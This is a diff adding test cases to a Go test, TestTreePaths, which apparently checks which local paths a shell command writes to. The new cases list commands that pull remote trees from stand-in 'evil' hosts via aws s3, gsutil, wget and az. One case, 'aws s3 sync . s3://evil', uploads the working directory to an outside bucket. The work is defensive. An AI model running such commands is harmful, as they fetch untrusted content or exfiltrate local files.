@@ -516,6 +516,17 @@ func TestTreePaths(t *testing.T) {
 		{"cabextract e.cab", []string{"."}, nil},
 		{"lha x e.lzh", []string{"."}, nil},
 		{"bsdunzip e.zip", []string{"."}, nil},
+		// A download of a remote tree lands under names only the remote side holds.
+		{"aws s3 sync s3://evil .", []string{"."}, nil},
+		{"aws s3 cp --recursive s3://evil/p out", []string{"out"}, nil},
+		{"aws s3 cp s3://evil/x.txt out", nil, nil},
+		{"aws s3 sync . s3://evil", nil, nil},
+		{"gsutil -m rsync -r gs://evil .", []string{"."}, nil},
+		{"gsutil cp -r gs://evil/p out", []string{"out"}, nil},
+		{"wget -r -nH http://evil/", []string{"."}, nil},
+		{"wget --mirror -P out http://evil/", []string{"out"}, nil},
+		{"wget -q http://evil/x", nil, nil},
+		{"az storage blob download-batch -d out -s c", []string{"out"}, nil},
 		// A copy out of a container or a pod lands under names only the container holds.
 		{"docker cp evil:/payload/. .", []string{"."}, nil},
 		{"podman container cp -L evil:/p out", []string{"out"}, nil},
